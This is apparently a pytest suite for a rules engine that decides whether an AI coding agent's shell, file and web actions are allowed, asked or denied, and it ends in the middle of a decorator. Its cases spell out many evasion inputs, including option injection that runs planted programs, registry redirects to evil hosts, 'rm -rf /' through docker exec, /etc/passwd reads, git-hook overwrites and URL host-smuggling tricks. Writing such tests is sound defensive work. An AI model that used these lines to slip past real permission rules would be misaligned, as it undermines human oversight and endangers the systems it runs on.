"""Files of rules: what they say, and every fault in them with its line and key."""

from __future__ import annotations

import os.path
import re
import time
from pathlib import Path
from typing import Any

import pytest

from sayso.brought import FILES_OF_AGENTS, OF_AGENTS
from sayso.config import Config
from sayso.rules.book import Circumstances, RuleBook, Ruling
from sayso.rules.judge import RuleJudge, sandbox_of
from sayso.rules.levels import RuleLevel
from sayso.rules.protected import PROTECTED, PROTECTED_NAMES
from sayso.rules.reading import read_rules
from sayso.rules.rule import Approvers, Effect, RulesFile
from sayso.rules.uses import Ground, example, use_of

FILE = Path("/etc/sayso/rules.toml")
SPECIFIED = """
[groups]
release = ["user-a", "user-b"]
oncall = ["user-c"]

[[rule]]
deny = ["Bash(git push --force *)", "Read(.env*)"]
because = "Use --force-with-lease."
match = ["Bash(git push --force origin main)"]
not_match = ["Bash(git push origin main)"]

[[rule]]
ask = ["Bash(terraform *)", "Edit(infra/**)"]
except = ["Bash(terraform plan *)"]
approvers = ["@release"]
need = 2
not_asker = true
timeout = "2h"
escalate = { after = "20m", to = ["@oncall"] }

[[rule]]
allow = ["Bash(npm test *)", "Bash(git status *)", "Read(**)", "git_status"]
when = { project = "/srv/shop", agent = "claude-code" }
"""


def read(text: str) -> RulesFile:
    return read_rules(text.encode(), FILE, RuleLevel.MACHINE)


def faults(text: str) -> list[str]:
    return [str(fault) for fault in read(text).faults]


def ruling(text: str, meant: str, project: str = "/srv/shop", agent: str = "claude-code") -> Ruling:
    file = read(text)
    assert file.faults == ()
    use = use_of(example(meant, project), Ground(leads_to=os.path.normpath))
    return RuleBook([file]).judge(use, Circumstances(project=project, agent=agent))


def effect(text: str, meant: str, project: str = "/srv/shop", agent: str = "claude-code") -> str:
    return ruling(text, meant, project, agent).effect


def test_the_specified_file_is_read_and_decides() -> None:
    denied = ruling(SPECIFIED, "Bash(git push --force)")
    assert (denied.effect, denied.because) == (Effect.DENY, "Use --force-with-lease.")
    assert [rule.place for rule in denied.rules] == ["/etc/sayso/rules.toml:6"]
    asked = ruling(SPECIFIED, "Bash(terraform apply)")
    assert asked.effect is Effect.ASK
    (rule,) = asked.demanding
    assert rule.approvers == Approvers(
        names=("user-a", "user-b"),
        need=2,
        not_asker=True,
        timeout_ms=7_200_000,
        escalate_after_ms=1_200_000,
        escalate_to=("user-c",),
    )
    for meant in ("Bash(npm test)", "Read(src/a.py)", "git_status"):
        assert effect(SPECIFIED, meant) == "allow"
    assert effect(SPECIFIED, "Read(.env)") == "deny"


def test_a_rule_holds_only_where_it_says() -> None:
    assert effect(SPECIFIED, "git_status", "/srv/shop/backend") == "allow"
    assert effect(SPECIFIED, "git_status", "/srv/shopping") == "ask"
    assert effect(SPECIFIED, "git_status", agent="codex") == "ask"
    assert effect(SPECIFIED, "git_status", agent="") == "ask"
    strict = '[[rule]]\ndeny = ["git_status"]\nwhen = { agent = "codex" }'
    assert effect(strict, "git_status") == "ask"
    assert effect(strict, "git_status", agent="") == "deny"


@pytest.mark.parametrize(
    ("wanted", "in_force", "verdict"),
    [
        ("workspace", "none", "ask"),
        ("workspace", "workspace", "allow"),
        ("workspace", "read-only", "allow"),
        ("read-only", "workspace", "ask"),
        ("none", "none", "allow"),
    ],
)
def test_what_is_allowed_in_a_sandbox_is_allowed_in_that_one_and_in_stricter_ones(
    wanted: str, in_force: str, verdict: str
) -> None:
    file = read(f'[[rule]]\nallow = ["npm_test"]\nwhen = {{ sandbox = "{wanted}" }}')
    use = use_of(example("npm_test", "/srv/shop"), Ground(leads_to=os.path.normpath))
    where = Circumstances(project="/srv/shop", agent="claude-code", sandbox=in_force)
    assert RuleBook([file]).judge(use, where).effect == verdict


def test_what_an_action_runs_in_is_the_most_lenient_sandbox_of_its_parts() -> None:
    def command(profile: str) -> dict[str, Any]:
        data = {"argv": ["x"], "first": [], **({"sandbox": {"profile": profile}} if profile else {})}
        return {"kind": "command", "tool": "x", "folder": "/", "data": data}

    def sequence(*profiles: str, **more: Any) -> dict[str, Any]:
        return {"kind": "sequence", "data": {"steps": [command(each) for each in profiles], "first": [], **more}}

    assert [sandbox_of(command(each)) for each in ("", "workspace", "read-only")] == ["none", "workspace", "read-only"]
    assert sandbox_of(sequence("workspace", "read-only")) == "workspace"
    assert sandbox_of(sequence("workspace", "")) == "none"
    assert sandbox_of(sequence("workspace", first=[{"argv": ["x"]}])) == "none"
    assert sandbox_of({**command("workspace"), "kind": "shell"}) == "none", "what a client runs, we know nothing of"


def test_what_wants_a_sandbox_is_asked_where_there_is_none() -> None:
    text = '[[rule]]\nallow = ["Bash(npm test *)"]\nwhen = { sandbox = "workspace" }'
    asked = ruling(text, "Bash(npm test)")
    assert (asked.effect, "sandbox" in asked.why) == (Effect.ASK, True)
    assert effect('[[rule]]\ndeny = ["Bash(ls)"]\nwhen = { sandbox = "none" }', "Bash(ls)") == "deny"


@pytest.mark.parametrize(
    ("meant", "verdict"),
    [
        ("Edit(src/a.py)", "allow"),
        ("Write(src/a.py)", "allow"),
        ("MultiEdit(src/deep/er/a.py)", "allow"),
        ("Edit(src/../a.py)", "ask"),
        ("Edit(src)", "ask"),
        ("Edit(srcs/a.py)", "ask"),
        ("Edit(/etc/src/a.py)", "ask"),
        ("Edit(src/.git/hooks/pre-commit)", "ask"),
        ("Edit(src/.claude/settings.json)", "ask"),
        ("Edit(src/.sayso/rules.toml)", "ask"),
        ("Edit(src/.GIT/config)", "ask"),
        ("Edit(src/.gitignore)", "allow"),
        ("Edit(src/.github/a.md)", "allow"),
        ("Read(src/a.py)", "ask"),
        ("Read(README.md)", "allow"),
        ("Read(docs/deep/README.md)", "allow"),
        ("Read(/etc/README.md)", "ask"),
        ("Read(/etc/hosts)", "allow"),
        ("Read(/etc/hosts/x)", "ask"),
        ("Grep(logs)", "ask"),
        ("Read(secrets/key)", "deny"),
        ("Read(secrets)", "deny"),
        ("Read(a/secrets/key)", "ask"),
        ("Read(x/id_rsa)", "deny"),
        ("Read(/home/x/.ssh/ID_RSA)", "deny"),
        ("WebFetch(https://docs.example.com/a)", "allow"),
        ("WebFetch(https://example.com/a)", "ask"),
        ("WebFetch(https://docs.example.com.evil.com/)", "ask"),
        ("WebFetch(https://evil.com/?docs.example.com)", "ask"),
        ("WebFetch(https://docs.example.com@evil.com/)", "ask"),
        ("WebFetch(https://docs.example.com\\@evil.com/)", "ask"),
        ("WebFetch(file://docs.example.com/etc/passwd)", "ask"),
        ("WebFetch(https://api.bad.com/)", "deny"),
        ("mcp__github__get_issue", "allow"),
        ("mcp__github__delete", "ask"),
        ("mcp__githubx__get_issue", "ask"),
        ("mcp__github__get__issue", "ask"),
        ("mcp__files__read", "allow"),
        ("mcp__files__other__read", "ask"),
        ("mcp__files___read", "ask"),
        ("mcp__prod__anything", "deny"),
        ("mcp__prod__any__thing", "deny"),
        ("deploy(./deploy.sh staging)", "allow"),
        ("deploy(./deploy.sh prod)", "ask"),
        ("deploy(git push --force)", "deny"),
        ("deploy", "ask"),
        ("other(./deploy.sh staging)", "ask"),
        ("ExitPlanMode", "ask"),
        ("WebSearch", "allow"),
    ],
)
def test_patterns_mean_what_the_documents_say(meant: str, verdict: str) -> None:
    rules = """
[[rule]]
deny = ["Read(secrets/)", "Read(id_rsa)", "WebFetch(domain:bad.com)", "mcp__prod", "Bash(git push --force *)"]
[[rule]]
allow = ["Edit(src/**)", "Read(README.md)", "Read(//etc/hosts)", "Grep(logs/**)", "WebFetch(domain:docs.example.com)",
  "mcp__github__get_*", "mcp__files", "deploy(./deploy.sh staging *)", "WebSearch"]
"""
    assert effect(rules, meant) == verdict


@pytest.mark.parametrize(
    "address",
    [
        "https://bad.com/ x",
        " https://bad.com",
        "https:/bad.com",
        "//bad.com",
        "https://b%61d.com",
        "https://bad\u3002com",
        "https://bad.com\\x",
        *(f"http://{host}/" for host in ("127.1", "0x7f.1", "2130706433", "127.0.0.01", "[::ffff:127.0.0.1]")),
    ],
)
def test_an_address_whose_host_is_not_certain_is_asked_where_one_of_them_is_denied(address: str) -> None:
    rules = (
        '[[rule]]\nallow = ["WebFetch"]\n[[rule]]\ndeny = ["WebFetch(domain:bad.com)", "WebFetch(domain:127.0.0.1)"]'
    )
    assert effect(rules, f"WebFetch({address})") in ("ask", "deny")
    assert effect('[[rule]]\nallow = ["WebFetch"]', f"WebFetch({address})") == "ask"
    assert [effect(rules, f"WebFetch(http://{host}:80/)") for host in ("127.0.0.2", "127.0.0.1.", "good.com")] == [
        "allow",
        "deny",
        "allow",
    ]


def test_what_no_rule_allows_is_what_the_documents_list() -> None:
    told = (Path(__file__).parents[2] / "docs" / "rules.md").read_text("utf-8").partition("## What no rule allows")[2]
    listed = re.findall(r"`(.+?)`", told.partition("letters are cased:")[2].partition(";")[0])
    assert listed == list(PROTECTED_NAMES)
    rules = '[[rule]]\nallow = ["Edit(**)", "Bash(cp *)"]'
    for name in (*listed, *map(str.upper, listed)):
        for meant in (f"Edit({name})", f"Edit(src/{name}/x)", f"Bash(cp x src/{name})", f"Bash(cp x {name}/y)"):
            assert ruling(rules, meant).why == PROTECTED, meant


def test_no_rule_allows_to_change_a_workspace_of_an_editor_whatever_it_is_called() -> None:
    rules = '[[rule]]\nallow = ["Edit(**)", "Bash(cp *)"]'
    for meant in ("Edit(my.code-workspace)", "Edit(src/My.Code-Workspace)", "Bash(cp x a/b.code-workspace)"):
        assert ruling(rules, meant).why == PROTECTED, meant
    assert effect(rules, "Bash(cp x *.code-workspace)") == "ask"
    assert effect(rules, "Edit(src/workspace.py)") == "allow"


def test_no_rule_allows_what_has_to_be_trusted_to_be_used() -> None:
    for _, name in (*OF_AGENTS, *FILES_OF_AGENTS):
        assert effect('[[rule]]\nallow = ["Edit(**)"]', f"Edit({name})") == "ask", name


def test_what_reads_without_naming_files_is_asked_only_where_a_rule_guards_files_from_being_read() -> None:
    rules = '[[rule]]\nallow = ["Bash(rg *)", "Bash(grep *)", "Bash(cat *)", "Bash(cp *)", "Bash(git *)"]\n'
    lines = ("rg foo", "grep -r foo src", 'cat "src/$X"', "git --no-pager grep foo")
    assert {effect(rules, f"Bash({line})") for line in lines} == {"allow"}
    for guarded in ('deny = ["Read(.env*)"]', 'ask = ["Read(secrets/**)"]'):
        assert {effect(f"{rules}[[rule]]\n{guarded}", f"Bash({line})") for line in lines} == {"ask"}
    assert effect(f'{rules}[[rule]]\ndeny = ["Edit(infra/**)"]', "Bash(rg foo)") == "allow"
    assert effect(rules, 'Bash(cp a "src/$X")') == "ask"


@pytest.mark.parametrize(
    "line",
    [
        "go test -exec sh",
        "go test --exec=sh",
        "make --eval=x",
        "make -E x",
        "make SHELL=/x test",
        "make test",
        "tar -I sh -xf x",
        "tar xIf sh x",
        *(
            f"curl {option} x"
            for option in ["-o", "-D", "-c", "--trace", "--stderr", "--libcurl", "--etag-save", "--hsts"]
        ),
        "curl -w '%output{x}' y",
        "wget -O x y",
        "wget --use-askpass=x y",
        "sed -i s/a/b/ x",
        "sed '1e touch x' y",
        "sed s/a/b/e y",
        "sed 's/a/b/w x' y",
        "sed 1r.env y",
        "sed -n 'w x' y",
        "sed -e p -e '1e touch x' y",
        "sed '1p;1e touch x' y",
        'sed "s/a/$X/" y',
        'sed "s/a/\\\\$X/" y',
        "git bisect run sh -c x",
        "git submodule foreach x",
        "git config core.pager x",
        "man -P sh ls",
        "less '+!sh' x",
        "awk 'BEGIN { system(1) }'",
        "zip -TT sh x y",
        "gcc -wrapper sh x.c",
        "cargo +x test",
        "uv run x",
        "npx x",
        "sudo x",
        "docker run x",
        "docker ps",
        "strace sh -c x",
        "vim -c ':!sh' x",
        "eslint --plugin x y",
        "jest --config=x",
        "prettier --plugin=x y",
        "mypy --python-executable=x y",
        "bat --pag sh x",
        "git fetch ext::sh",
        "git checkout --pathspec-from-file=x",
        "gcc @x",
        "gh alias set x y",
        "go env -w x=y",
    ],
)
def test_the_name_of_a_program_alone_does_not_allow_the_programs_among_its_words(line: str) -> None:
    name = line.partition(" ")[0]
    assert effect(f'[[rule]]\nallow = ["Bash({name} *)"]', f"Bash({line})") == "ask"


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("npm run build *", "npm run build --script-shell=./x"),
        *(
            ("npm test *", f"npm test {option}")
            for option in (
                "-script-shell=./x",
                "---script-shell=./x",
                "-script-shell ./x",
                "--script-sh ./x",
                "--git=./x",
            )
        ),
        ("npm install *", "npm install x --registry=http://evil"),
        ("npm install *", "npm install x -registry http://evil"),
        ("pnpm run *", "pnpm run -shell-emulator build"),
        ("pnpm add *", "pnpm add x ---registry=http://evil"),
        ("bun test *", "bun test --tsconfig-override=./x"),
        ("pnpm run build *", "pnpm run build --script-shell=./x"),
        ("pnpm run build *", "pnpm run build --config.script-shell=./x"),
        ("pnpm run build *", "pnpm run build --dir /x"),
        ("pnpm --filter *", "pnpm --filter a exec ./x"),
        ("yarn run build *", "yarn run build --cwd /x"),
        ("yarn workspace *", "yarn workspace a exec ./x"),
        ("yarn workspace a *", "yarn workspace a run x"),
        ("yarn workspace a exec *", "yarn workspace a exec ./x"),
        ("yarn workspaces foreach *", "yarn workspaces foreach -A exec ./x"),
        ("bun test *", "bun test --preload ./x.ts"),
        ("bun test *", "bun test -r ./x.ts"),
        ("docker build *", "docker build -o /root ."),
        ("docker build *", "docker build --output=type=local,dest=/root ."),
        ("docker image build *", "docker image build -o /root ."),
        ("docker buildx build *", "docker buildx build --output /root ."),
        ("docker container *", "docker container exec db rm -rf /"),
        ("docker container exec *", "docker container exec db rm -rf /"),
        ("podman container run *", "podman container run --privileged x"),
        ("docker compose exec *", "docker compose exec db x"),
        ("node --test *", "node --test --experimental-loader=./x"),
        ("node --test *", "node --test --experimental_loader=./x"),
        ("node --test *", "node --test --loader ./x"),
        ("node --test *", "node --test --import ./x"),
        ("node --test *", "node --test --require ./x"),
        ("node --test *", "node --test --test-reporter=./x"),
        ("uv run pytest *", "uv run pytest -p evil"),
        ("uv run --frozen pytest *", "uv run --frozen pytest --junitxml=/x"),
        ("uv run python *", "uv run python -c x"),
        ("python -m pytest *", "python -m pytest --config-file=/x"),
        ("python3.12 *", "python3.12 -c x"),
        ("npx jest *", "npx jest --config=x"),
        ("pytest *", "pytest @options"),
        ("python -m mypy *", "python -m mypy @options"),
        ("g++ *", "g++ @options"),
        ("gcc *", "gcc -Wl,-plugin,./evil.so a.c"),
        ("gcc *", "gcc -fuse-ld=./evil a.c"),
        ("ld *", "ld -plugin ./evil.so a.o"),
        ("curl *", "curl --remote-name-all https://example.com/a"),
        ("curl *", "curl --engine ./evil.so https://example.com"),
        ("git format-patch *", "git format-patch --output-directory=.github -1"),
        ("cargo test *", "cargo test --manifest-path /x/Cargo.toml"),
        ("cargo clippy *", "cargo clippy --fix"),
        ("go vet *", "go vet -vettool=./x ./..."),
        ("go build *", "go build '-ldflags=-extld=./x' ."),
        ("go test *", "go test -coverprofile=/x ."),
        ("go test *", "go test . -test.cpuprofile /x"),
        ("pytest *", "pytest --config-file=/x"),
        ("docker -D *", "docker -D exec db x"),
        ("docker -D build *", "docker -D build -o /root ."),
        ("docker -l debug *", "docker -l debug exec db x"),
        ("docker --debug container *", "docker --debug container exec db x"),
        ("docker --unknown container *", "docker --unknown container exec db x"),
        ("docker run --rm *", "docker run --rm -v /:/x y"),
        ("kubectl -n a *", "kubectl -n a exec db x"),
        ("gh -R a/b *", "gh -R a/b alias set x y"),
        ("cargo +nightly *", "cargo +nightly run"),
        ("make -j 4 *", "make -j 4 deploy"),
        ("make -j4 *", "make -j4 deploy"),
        ("sudo -u a *", "sudo -u a rm x"),
        ("uv run --with x *", "uv run --with x python -c y"),
        ("uv run --with pytest *", "uv run --with pytest python -m http.server"),
        ("uv run --with pytest python *", "uv run --with pytest python -m http.server"),
        ("python -mpytest *", "python -mpytest -p evil"),
        ("python -Bmpytest *", "python -Bmpytest -p evil"),
        ("pnpm -s add *", "pnpm -s add x --registry=http://evil"),
        ("git --no-pager config --global *", "git --no-pager config --global core.pager x"),
        ("git submodule --quiet *", "git submodule --quiet foreach x"),
        ("ssh -p 22 host *", "ssh -p 22 host -E log ls"),
        *(
            ("make test *", f"make test {word}")
            for word in ("'SHELL = ./x'", "FOO-BAR=1", ".SHELLFLAGS=x", "'a b=1'", "'$(x)=1'", "'a$(x)'", "-DX", "-V x")
        ),
        ("make X=1 *", "make X=1 deploy"),
        ("ninja *", "ninja -C ../x all"),
        ("cmake --build b *", "cmake --build b -- SHELL=./x"),
        ("cmake -S . *", "cmake -S . -DCMAKE_C_COMPILER=./x"),
        ("just test *", "just test --shell ./x"),
        ("just *", "just a=b test"),
        ("just a=b *", "just a=b deploy"),
        ("rake test *", "rake test RUBYOPT=-r./x"),
        ("mvn test *", "mvn test -Djvm=./x"),
        ("mvn test *", "mvn test -f../x"),
        ("gradle test *", "gradle test -Dorg.gradle.java.home=./x"),
        ("npm config *", "npm config set script-shell=./x"),
        ("npm set *", "npm set script-shell=./x"),
        ("pip config *", "pip config set global.index-url x"),
        ("pip list *", "pip list --log x"),
        ("sudo -E *", "sudo -E PATH=./x git status"),
        *(
            ("npx jest *", f"npx jest {option}")
            for option in (
                "--globalSetup=./x",
                "--global-setup=./x",
                "--global-setup ./x",
                "--test-environment ./x",
                "--setup-files-after-env=./x",
                "--transform.x=./x",
                "--root_dir=/x",
                "--coverage-directory /x",
                "--config.preset=./x",
            )
        ),
        ("yarn jest *", "yarn jest --global-setup=./x"),
        ("pnpm eslint *", "pnpm eslint --rulesdir=./x"),
        ("eslint *", "eslint --resolvePluginsRelativeTo=./x a.js"),
        ("eslint *", "eslint --outputFile=./x a.js"),
        ("node --test *", "node --test --im-port=./x"),
        ("pnpm run build *", "pnpm run build --scriptShell=./x"),
        ("docker buildx bake *", "docker buildx bake --set '*.output=/x'"),
    ],
)
def test_a_star_after_a_verb_does_not_stand_for_options_that_run_programs_or_write(pattern: str, line: str) -> None:
    assert effect(f"[[rule]]\nallow = ['''Bash({pattern})''']", f"Bash({line})") == "ask"


@pytest.mark.parametrize(
    ("patterns", "line"),
    [
        (["cd src", "./run.sh"], "cd src && ./run.sh"),
        (["pushd *", "./run.sh"], "pushd src; ./run.sh"),
        (["find *", "git diff *"], r"find put=w.txt -exec git diff --out{} \;"),
        (["find *", "./run.sh *"], r"find . -execdir ./run.sh {} \;"),
        (["find *", "make test *"], r"find SHELL=./evil.sh -exec make test {} \;"),
        (["find *", "tar *"], r"find cIf -exec tar {} ./evilc.sh out.tar Makefile \;"),
        (["find *", "cp *"], r"find . -name pre-commit.sample -exec cp evil.sh {} \;"),
        (["find *", "ruff check *"], r"find . -name '*.py' -exec ruff check {} +"),
        (["find *", "cat *"], r"find -f --files0-from=x -- -exec cat {} +"),
        (["find *", "cat *"], r"find -Ef --files0-from=x -exec cat {} +"),
        (["find *", "cat *"], r"find ./run.sh put=x -exec cat {} +"),
        (["find *", "cat *"], r"find -H . put=x -exec cat {} +"),
        (["find *", "git *"], r"find status -exec git {} \;"),
        (["cd *", "git status *"], "cd $X && git status"),
    ],
)
def test_what_runs_elsewhere_or_with_words_that_are_filled_in_is_another_program(
    patterns: list[str], line: str
) -> None:
    assert effect(f"[[rule]]\nallow = {[f'Bash({each})' for each in patterns]}", f"Bash({line})") == "ask"


def test_what_follows_a_change_to_a_folder_that_is_named_is_looked_at_from_there() -> None:
    rules = "[[rule]]\nallow = ['Bash(cd *)', 'Bash(npm test)', 'Bash(cat *)', 'Bash(cp *)']\n"
    rules += "[[rule]]\ndeny = ['Read(src/key)']\n[[rule]]\nask = ['Edit(infra/**)']"
    asked = ("cd src && cat key", "cd src/x && cat ../key", "cd $X && cat a", "cd - && npm test", "cd infra && cp a b")
    assert effect(rules, "Bash(cd src && npm test)") == "allow"
    assert effect(rules, "Bash(cd src && cat other)") == "allow"
    for line in asked:
        assert effect(rules, f"Bash({line})") == "ask", line


def test_what_find_comes_to_may_be_read_by_what_is_known_to_only_read() -> None:
    rules = "[[rule]]\nallow = ['Bash(find *)', 'Bash(grep *)', 'Bash(wc *)', 'Bash(cp *)']"
    lines = [
        r"find src -name '*.py' -exec grep -n word {} +",
        r"find . ./tests -type f -exec wc -l {} \;",
        r"find -L ~/notes -name x -exec grep word {} \;",
        r"find -name '*.py' -exec grep word {} +",
    ]
    assert [line for line in lines if effect(rules, f"Bash({line})") != "allow"] == []
    guarded = f"{rules}\n[[rule]]\ndeny = ['Edit(infra/**)']"
    assert effect(guarded, r"Bash(find . -name main.tf -exec cp evil.sh {} \;)") == "ask"


@pytest.mark.parametrize(
    "line",
    [
        "COLUMNS='path[$(touch X)1]' git status",
        "printf %d 'path[$(touch X)1]'",
        'echo "$HOME[path[\\$(touch X)1]]"',
        'echo "$HOME:h/x"',
        "for path in ./evil; do git status; done",
        "cat ~+/secrets/key",
        "npm test --script-shel*/ev.sh",
        "git diff --out*",
        "git diff --no-index /etc/passwd x",
        "git diff /etc/passwd /etc/group",
        "git diff ../other",
        "git blame --contents /etc/passwd x",
        "cp evil /proc/self/cwd/../x",
        "cp -fffffffffffffft../x evil",
    ],
)
def test_what_another_shell_or_program_may_read_otherwise_is_asked(line: str) -> None:
    names = ("git status", "git diff", "git blame", "printf", "echo", "cat", "cp", "npm test")
    assert effect(f"[[rule]]\nallow = {[f'Bash({name} *)' for name in names]}", f"Bash({line})") == "ask"


def test_no_way_to_where_rules_are_kept_is_open_to_a_command(tmp_path: Path) -> None:
    project, own = tmp_path / "project", tmp_path / "home"
    for folder in (project / "a" / "b", own):
        folder.mkdir(parents=True)
    (project / "link").symlink_to("a/b")
    judge = RuleJudge(Config(state_dir=own))
    rules = read('[[rule]]\nallow = ["Bash(cp *)", "Bash(cd *)"]')

    def effect_of(line: str) -> str:
        use = judge.use(example(f"Bash({line})", str(project)), str(project))
        return RuleBook([rules]).judge(use, Circumstances(project=str(project), agent="claude-code")).effect

    assert effect_of("cp x a/y") == "allow"
    assert effect_of("cd a && cp x y") == "allow"
    assert effect_of("cp x ../home/rules.toml") == "ask"
    assert effect_of("cd .. && cp x home/rules.toml") == "ask"
    assert effect_of("cd a && cd ../.. && cp x home/rules.toml") == "ask"
    assert effect_of("cp x link/../../../home/rules.toml") == "ask"
    assert effect_of("cp x nowhere/../../home/rules.toml") == "ask"


def test_no_way_to_where_rules_are_kept_is_open_from_a_folder_that_a_line_does_not_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, own = tmp_path / "shop", tmp_path / "own"
    for folder in (project / "src", project / ".git" / "hooks", own):
        folder.mkdir(parents=True)
    (project / "src" / "link").symlink_to("../.git/hooks")
    for file in (own / "rules.toml", project / ".git" / "hooks" / "pre-commit"):
        file.touch()
    monkeypatch.setenv("HOME", str(tmp_path))
    judge = RuleJudge(Config(state_dir=own))
    rules = read('[[rule]]\nallow = ["Bash(cp *)", "Bash(cd *)", "Bash(pushd *)", "Bash(popd *)"]')

    def effect_of(line: str) -> str:
        use = judge.use(example(f"Bash({line})", str(project)), str(project))
        return RuleBook([rules]).judge(use, Circumstances(project=str(project), agent="claude-code")).effect

    allowed = ("cd && cp x y", "cd -P src && cp x y", "cp x s?c/y", "cp x ~/shop/src/y", "pushd src && cp x y")
    assert {effect_of(line) for line in allowed} == {"allow"}
    asked = [
        *("cd && cd own && cp x rules.toml", "cd -- && cp x own/rules.toml", "pushd ~ && cp x own/rules.toml"),
        *("cd - && cp x rules.toml", "popd; cp x rules.toml", "pushd; cp x rules.toml", "cd +1; cp x rules.toml"),
        *("cd shop own && cp x rules.toml", "pushd shop own && cp x rules.toml"),
        *("cp x ~/shop/src/link/pre-commit", 'cp x "$HOME/shop/src/link/pre-commit"'),
        *("cp x src/l?nk/pre-commit", "cp x src/[k-m]ink/", "cp x ../o?n/rules.toml", "cp x ~/o?n/"),
        "cp x /*/*/*/*/nothing",  # nobody looks through the whole disk for it
    ]
    assert [line for line in asked if effect_of(line) != "ask"] == []


def test_a_file_that_a_rule_denies_is_asked_for_by_whatever_link_in_the_home_leads_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / ".env").touch()
    (tmp_path / "public").symlink_to(".env")
    monkeypatch.setenv("HOME", str(tmp_path))
    rules = read('[[rule]]\nallow = ["Bash(cat *)"]\n[[rule]]\ndeny = ["Read(.env*)"]')
    for name in ("public", "~/public", "$HOME/public"):
        use = RuleJudge(Config(state_dir=tmp_path / "state")).use(
            example(f"Bash(cat {name})", str(tmp_path)), str(tmp_path)
        )
        assert RuleBook([rules]).judge(use, Circumstances(project=str(tmp_path), agent="claude-code")).effect == "ask"


def test_git_is_asked_where_a_folder_poses_as_a_repository(tmp_path: Path) -> None:
    for name in (".git", "src/deep", "lib"):
        (tmp_path / name).mkdir(parents=True)
    for name in ("HEAD", "objects", "refs"):
        (tmp_path / "src" / name).touch()
    judge, rules = (
        RuleJudge(Config(state_dir=tmp_path / "state")),
        read('[[rule]]\nallow = ["Bash(git status *)", "Bash(cd *)"]'),
    )

    def effect_in(folder: Path, line: str) -> str:
        use = judge.use(example(f"Bash({line})", str(folder)), str(tmp_path))
        return RuleBook([rules]).judge(use, Circumstances(project=str(tmp_path), agent="claude-code")).effect

    assert effect_in(tmp_path, "git status") == "allow"
    assert effect_in(tmp_path / "lib", "git status") == "allow"
    assert effect_in(tmp_path, "cd lib && git status") == "allow"
    assert effect_in(tmp_path / "src", "git status") == "ask"
    assert effect_in(tmp_path / "src" / "deep", "git status") == "ask"
    assert effect_in(tmp_path, "cd src && git status") == "ask"
    assert effect_in(tmp_path, "cd src && cd deep && git status") == "ask"
    assert effect_in(tmp_path / "lib", "cd ../src/deep; git status") == "ask"


def test_a_name_that_means_another_file_once_its_links_are_followed_is_asked(tmp_path: Path) -> None:
    (tmp_path / "src" / "a" / "b").mkdir(parents=True)
    (tmp_path / "src" / "link").symlink_to("a/b")
    judge = RuleJudge(Config(state_dir=tmp_path / "state"))

    def doubts(meant: str, *, is_file_known: bool = False) -> list[str]:
        action = example(meant, str(tmp_path))
        if is_file_known:
            action["data"]["file"] = {"path": os.path.realpath(f"{tmp_path}/src/link/../../x")}
        return [doubt for doubt in judge.use(action, str(tmp_path)).doubts if "links" in doubt]

    assert doubts(f"Write({tmp_path}/src/link/../../x)", is_file_known=True)
    for meant in ("Write(src/link/../../x)", "Read(src/link/../../x)", "Grep(src/link/../..)"):
        assert doubts(meant)
    assert not doubts("Write(src/a/../x)")
    assert not doubts("Read(src/a/b/../../x)")


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("uv run pytest *", "uv run pytest -q tests/a.py"),
        ("python -m pytest *", "python -m pytest -x"),
        ("npm test *", "npm test -- --watch"),
        ("npm install *", "npm install --save-dev @scope/name"),
        ("pnpm test *", "pnpm test --watch"),
        ("yarn lint *", "yarn lint --fix"),
        ("yarn workspace a test *", "yarn workspace a test --watch"),
        ("yarn workspace a exec ./x *", "yarn workspace a exec ./x y"),
        ("yarn run build *", "yarn run build --watch"),
        ("docker container ls *", "docker container ls -a"),
        ("docker container exec db *", "docker container exec db ls"),
        ("docker build *", "docker build -t x ."),
        ("node --test *", "node --test --test-name-pattern=x a.js"),
        ("bun test *", "bun test -t x"),
        ("cargo build *", "cargo build --release --target x --features y"),
        ("go test *", "go test -v -count=1 -race ./..."),
        ("sed -n *", "sed -n 1,20p x"),
        ("sed -n *", "sed -n '1,5p;/x/,$p' x"),
        ("sed *", "sed -E 's/a+/b/g' x"),
        ("sed *", "sed 's|/a|/b|' x"),
        ("sed '1e date' *", "sed '1e date' x"),
        ("awk '{print $1}' x", "awk '{print $1}' x"),
        ("make test *", "make test"),
        ("make *", "make"),
        ("uv run pytest *", "uv run pytest -q"),
        ("docker ps *", "docker ps -a"),
        ("docker compose ps", "docker compose ps"),
        ("npx eslint *", "npx eslint src"),
        ("git config user.name *", "git config user.name"),
        ("git *", "git log --oneline"),
        ("go test *", "go test ./... -run x"),
        ("man *", "man ls"),
        ("tar *", "tar tf x.tar"),
        ("cargo test *", "cargo test --all"),
        ("docker -D ps *", "docker -D ps -a"),
        ("docker run --rm node *", "docker run --rm node npm test"),
        ("docker exec -it db *", "docker exec -it db ls -l"),
        ("kubectl -n a get *", "kubectl -n a get pods"),
        ("gh -R a/b pr view *", "gh -R a/b pr view 1"),
        ("cargo +nightly test *", "cargo +nightly test --all"),
        ("make -j4 test *", "make -j4 test"),
        ("make -j 4 test *", "make -j 4 test"),
        ("uv run --frozen pytest *", "uv run --frozen pytest -q"),
        ("uv run --with x pytest *", "uv run --with x pytest -q"),
        ("python -mpytest *", "python -mpytest -q"),
        ("pnpm -s test *", "pnpm -s test --watch"),
        ("git --no-pager *", "git --no-pager log -1"),
        ("git config --get *", "git config --get user.name"),
        ("git submodule status *", "git submodule status"),
        ("ssh host *", "ssh host ls -F"),
        ("npx jest *", "npx jest --coverage --testNamePattern=x --watch-all=false --ci src"),
        ("yarn jest *", "yarn jest --coverage src"),
        ("make test *", "make test --jobs=4 --output-sync=target -k"),
        ("ninja *", "ninja -j4 -v all"),
        ("cmake --build *", "cmake --build b --target test --parallel 4"),
        ("just test *", "just test a b"),
        ("mvn test *", "mvn test -DskipTests=false -Dtest=A -pl core -am -ntp -fae"),
        ("gradle test *", "gradle test --info --tests A"),
        ("npm config get *", "npm config get prefix"),
        ("pip install *", "pip install -r requirements.txt"),
        ("ssh -p 22 host *", "ssh -p 22 host ls -o x"),
        ("sed -n *", "sed -n -E -u '/a+/p' x"),
        ("sed *", "sed --quiet -s 1,5p x"),
    ],
)
def test_what_a_rule_names_it_allows(pattern: str, line: str) -> None:
    assert effect(f'[[rule]]\nallow = ["""Bash({pattern})"""]', f"Bash({line})") == "allow"


@pytest.mark.parametrize("pattern", ['"curl" *', r"c\url *", "CURL *", "Curl *"])
